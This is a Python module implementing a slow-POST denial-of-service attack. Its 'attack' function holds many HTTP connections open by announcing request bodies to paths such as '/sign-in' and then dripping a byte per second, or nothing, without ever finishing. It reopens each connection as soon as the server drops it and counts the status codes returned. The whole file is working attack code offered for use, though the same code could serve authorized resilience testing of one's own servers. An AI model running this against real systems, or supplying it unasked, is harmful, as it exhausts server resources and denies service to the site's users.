"""Many connections that announce a body and never finish it: silent, dripping, or in chunks without an end."""

from __future__ import annotations

import selectors
import socket
import time
from collections import Counter
from collections.abc import Iterator
from contextlib import suppress
from itertools import count, product

PATHS = ("/sign-in", "/csp-report", "/theme", "/hooks/x")
PATIENCE = 10
PAUSE = 1.0
"""Seconds between two drops."""
FORM = "Content-Type: application/x-www-form-urlencoded"
SENDERS = (
    ("Content-Length: 9", b""),
    ("Content-Length: 1000", b"a"),
    ("Transfer-Encoding: chunked", b"1\r\na\r\n"),
)
"""How the body is announced, and what is sent of it after each pause."""


class SlowSender:
    """One connection, opened anew with another request as soon as the server ends it."""

    def __init__(self, host: str, port: int, turns: Iterator[int], answers: Counter[int]) -> None:
        self.address, self.turns, self.answers = (host, port), turns, answers
        self.begin()

    def begin(self) -> None:
        kinds = list(product(SENDERS, PATHS))
        (length, self.drop), path = kinds[next(self.turns) % len(kinds)]
        head = f"POST {path} HTTP/1.1\r\nHost: {self.address[0]}\r\n{FORM}\r\n{length}\r\n\r\n"
        self.socket = socket.create_connection(self.address, timeout=PATIENCE)
        self.socket.sendall(head.encode())
        self.socket.setblocking(False)
        self.next = time.monotonic() + PAUSE

    def drip(self) -> None:
        """Sends what is due now."""
        if time.monotonic() < self.next:
            return
        self.next += PAUSE
        with suppress(OSError):
            self.socket.send(self.drop)

    def end(self) -> None:
        """Notes how the server ended it: the status of its answer, 0 for none."""
        answer = b""
        with suppress(OSError):
            answer = self.socket.recv(65536)
        self.socket.close()
        self.answers[int(answer[9:12]) if answer.startswith(b"HTTP/1.") else 0] += 1


def attack(host: str, port: int, seconds: float, connections: int) -> Counter[int]:
    """Keeps so many connections busy with nothing for so long; how often which status came, 0 for a mere end."""
    answers: Counter[int] = Counter()
    turns = count()
    end = time.monotonic() + seconds
    with selectors.DefaultSelector() as selector:
        for _ in range(connections):
            sender = SlowSender(host, port, turns, answers)
            selector.register(sender.socket, selectors.EVENT_READ, sender)
        while time.monotonic() < end:
            for key, _events in selector.select(PAUSE / 10):
                _open_anew(selector, key.data)
            for key in list(selector.get_map().values()):
                key.data.drip()
        for key in list(selector.get_map().values()):
            key.data.socket.close()
    return answers


def _open_anew(selector: selectors.BaseSelector, sender: SlowSender) -> None:
    selector.unregister(sender.socket)
    sender.end()
    sender.begin()
    selector.register(sender.socket, selectors.EVENT_READ, sender)
